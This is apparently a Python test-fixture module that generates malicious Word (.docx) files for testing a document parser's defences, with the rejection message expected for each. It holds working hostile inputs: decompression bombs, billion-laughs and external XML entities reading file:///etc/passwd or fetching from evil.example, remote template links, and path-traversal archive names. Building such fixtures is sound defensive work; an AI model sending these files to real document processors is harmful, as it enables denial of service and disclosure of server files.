"""Word files made to harm: bombs, entities, outside paths and addresses, lies about sizes."""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

SPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
ROOT = (
    f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{RELATION}/officeDocument" Target="word/document.xml"/></Relationships>'
)
PARAGRAPH = "<w:p><w:r><w:t>正常的一段</w:t></w:r></w:p>"
Parts = dict[str, bytes | str]
GIANT = 1 << 30


def document(body: str, before: str = "") -> str:
    """The main part."""
    return f"{HEAD}{before}<w:document {SPACES}><w:body>{body}</w:body></w:document>"


def relations(*targets: tuple[str, str, str]) -> str:
    """Relations of the main part: form, target, mode."""
    inner = "".join(
        f'<Relationship Id="x{number}" Type="{RELATION}/{form}" Target="{target}"{mode}/>'
        for number, (form, target, mode) in enumerate(targets)
    )
    return f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'


def write(path: Path, parts: Parts) -> None:
    """A package of these parts."""
    with ZipFile(path, "w", ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in {"_rels/.rels": ROOT, **parts}.items():
            archive.writestr(name, data)


def _plain(path: Path) -> None:
    write(path, {"word/document.xml": document(PARAGRAPH)})


def _zeros(path: Path, name: str, size: int) -> None:
    _plain(path)
    with ZipFile(path, "a", ZIP_DEFLATED, compresslevel=1) as archive, archive.open(name, "w") as part:
        for _ in range(size >> 20):
            part.write(bytes(1 << 20))


def giant_part(path: Path) -> None:
    _zeros(path, "word/media/image1.bin", GIANT)


def giant_text(path: Path) -> None:
    write(path, {})
    _zeros_text(path, 300 << 20)


def high_ratio(path: Path) -> None:
    write(path, {})
    _zeros_text(path, 40 << 20)


def _zeros_text(path: Path, size: int) -> None:
    with ZipFile(path, "a", ZIP_DEFLATED, compresslevel=1) as archive, archive.open("word/document.xml", "w") as part:
        part.write(document(PARAGRAPH).encode())
        for _ in range(size >> 20):
            part.write(b" " * (1 << 20))


def nested(path: Path) -> None:
    """Archives in archives in archives: small to carry, endless to unpack."""
    inner = path.with_suffix(".inner")
    _zeros(inner, "zeros", 10 << 20)
    data = inner.read_bytes()
    for _ in range(4):
        with ZipFile(inner, "w", ZIP_DEFLATED) as archive:
            for number in range(16):
                archive.writestr(f"{number}.zip", data)
        data = inner.read_bytes()
    inner.unlink()
    write(path, {"word/document.xml": document(PARAGRAPH), "word/embeddings/a.zip": data})


def entities(path: Path) -> None:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    kind = f'<!DOCTYPE w:document [<!ENTITY l0 "哈">{levels}]>'
    write(path, {"word/document.xml": document("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", kind)})


def outside_entity(path: Path) -> None:
    kind = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    write(path, {"word/document.xml": document("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", kind)})


def entities_in_styles(path: Path) -> None:
    kind = '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "http://evil.example/x">]>'
    styles = f"{HEAD}{kind}<w:styles {SPACES}>&x;</w:styles>"
    parts: Parts = {"word/document.xml": document(PARAGRAPH), "word/styles.xml": styles}
    write(path, {**parts, "word/_rels/document.xml.rels": relations(("styles", "styles.xml", ""))})


def outside_links(path: Path) -> None:
    """Pictures, templates and parts that lead out of the package."""
    mode = ' TargetMode="External"'
    targets = (
        ("image", "file:///etc/passwd", mode),
        ("image", "http://evil.example/a.png", mode),
        ("image", "../../../../etc/passwd", ""),
        ("attachedTemplate", "http://evil.example/t.dotm", mode),
        ("styles", "http://evil.example/styles.xml", mode),
        ("numbering", "/etc/passwd", ""),
        ("header", "file:///etc/passwd", mode),
        ("hyperlink", "file:///etc/passwd", mode),
    )
    pictures = "".join(
        f"<w:r><w:drawing><a:blip r:{kind}/></w:drawing></w:r>" for kind in ('link="x0"', 'link="x1"', 'embed="x2"')
    )
    link = '<w:hyperlink r:id="x7"><w:r><w:t>链接</w:t></w:r></w:hyperlink>'
    body = f"<w:p>{pictures}{link}</w:p>{PARAGRAPH}"
    write(path, {"word/document.xml": document(body), "word/_rels/document.xml.rels": relations(*targets)})


def slipping_names(path: Path) -> None:
    names = ("../../evil.txt", "/tmp/evil-absolute.txt", "C:\\evil.txt", "word/../../evil.xml")
    write(path, {"word/document.xml": document(PARAGRAPH), **dict.fromkeys(names, "x")})


def wrong_checksum(path: Path) -> None:
    with ZipFile(path, "w", ZIP_STORED) as archive:
        archive.writestr("_rels/.rels", ROOT)
        archive.writestr("word/document.xml", document(PARAGRAPH))
    path.write_bytes(path.read_bytes().replace("正常".encode(), "反常".encode(), 1))


def encrypted(path: Path) -> None:
    """Members whose flags say that a password was used."""
    _plain(path)
    data = bytearray(path.read_bytes())
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(mark)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(mark, place + 4)
    path.write_bytes(data)


def encrypted_by_word(path: Path) -> None:
    path.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(900)
    )


def old_in_disguise(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))


def many_parts(path: Path) -> None:
    write(path, {"word/document.xml": document(PARAGRAPH), **{f"word/media/{n}": "x" for n in range(3_000)}})


def long_list(path: Path) -> None:
    """An end of the archive that claims a list of members of 4 GiB."""
    _plain(path)
    data = bytearray(path.read_bytes())
    place = data.rfind(b"PK\x05\x06")
    data[place + 12 : place + 16] = struct.pack("<L", 0xFFFFFFF0)
    path.write_bytes(data)


def deep(path: Path) -> None:
    write(path, {"word/document.xml": document("<w:sdt>" * 5_000 + PARAGRAPH + "</w:sdt>" * 5_000)})


def deep_tables(path: Path) -> None:
    start, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    write(path, {"word/document.xml": document(start * 300 + PARAGRAPH + end * 300)})


def many_paragraphs(path: Path) -> None:
    """Paragraphs without end, each different enough to keep the ratio low."""
    body = "".join(f"<w:p><w:r><w:t>{n * 2654435761 % 4294967296:x}</w:t></w:r></w:p>" for n in range(200_000))
    write(path, {"word/document.xml": document(body)})


def many_runs(path: Path) -> None:
    """One paragraph of runs without end, each of another size."""
    sizes = (n * 2654435761 % 1048576 for n in range(120_000))
    runs = "".join(f'<w:r><w:rPr><w:sz w:val="{size}"/></w:rPr><w:t>{size:x}</w:t></w:r>' for size in sizes)
    write(path, {"word/document.xml": document(f"<w:p>{runs}</w:p>")})


def many_empty_runs(path: Path) -> None:
    """Runs without a word, which cost no memory."""
    sizes = (n * 2654435761 % 1048576 for n in range(300_000))
    runs = "".join(f'<w:r><w:rPr><w:sz w:val="{size}"/></w:rPr></w:r>' for size in sizes)
    write(path, {"word/document.xml": document(f"<w:p>{runs}</w:p>")})


def broken_xml(path: Path) -> None:
    write(path, {"word/document.xml": document(PARAGRAPH)[:-40]})


def truncated(path: Path) -> None:
    _plain(path)
    path.write_bytes(path.read_bytes()[:-60])


def empty(path: Path) -> None:
    path.write_bytes(b"")


def no_body(path: Path) -> None:
    write(path, {"xl/workbook.xml": "<x/>"})


def own_style(path: Path) -> None:
    """Styles that rest on each other in a circle, lists that stand for each other, numbers beyond all measure."""
    styles = (
        f'{HEAD}<w:styles {SPACES}><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
    )
    numbers = (
        f'{HEAD}<w:numbering {SPACES}><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="s"/></w:abstractNum>'
        '<w:abstractNum w:abstractNumId="2"><w:lvl w:ilvl="0"><w:start w:val="999999999999"/><w:numFmt '
        'w:val="upperRoman"/><w:lvlText w:val="%1%2%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId '
        'w:val="1"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="2"/></w:num></w:numbering>'
    )
    body = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="-7"/><w:numId w:val="{n}"/></w:numPr></w:pPr>'
        "<w:r><w:t>正常的一段</w:t></w:r></w:p>"
        for n in (1, 2)
    )
    targets = relations(("styles", "styles.xml", ""), ("numbering", "numbering.xml", ""))
    parts: Parts = {"word/document.xml": document(body), "word/styles.xml": styles, "word/numbering.xml": numbers}
    write(path, {**parts, "word/_rels/document.xml.rels": targets})


Maker = Callable[[Path], None]
REFUSED: dict[Maker, str] = {
    giant_part: "压缩炸弹",
    giant_text: "压缩炸弹",
    high_ratio: "压缩比",
    entities: "文档类型声明",
    outside_entity: "文档类型声明",
    entities_in_styles: "文档类型声明",
    wrong_checksum: "损坏",
    encrypted: "加了密码",
    encrypted_by_word: "加了密码",
    old_in_disguise: "旧版 Word",
    many_parts: "超过 2000 个",
    long_list: "太多",
    deep: "嵌套超过",
    deep_tables: "嵌套超过",
    many_paragraphs: "文字太多",
    many_runs: "文字太多",
    many_empty_runs: "内容太多",
    broken_xml: "损坏",
    truncated: "损坏",
    empty: "不是 Word 文档",
    no_body: "没有正文",
}
HARMLESS: tuple[Maker, ...] = (nested, outside_links, slipping_names, own_style)


def make_all(folder: Path) -> None:
    """All of them as files that are called after what they are."""
    folder.mkdir()
    for maker in (*REFUSED, *HARMLESS):
        maker(folder / f"{maker.__name__}.docx")
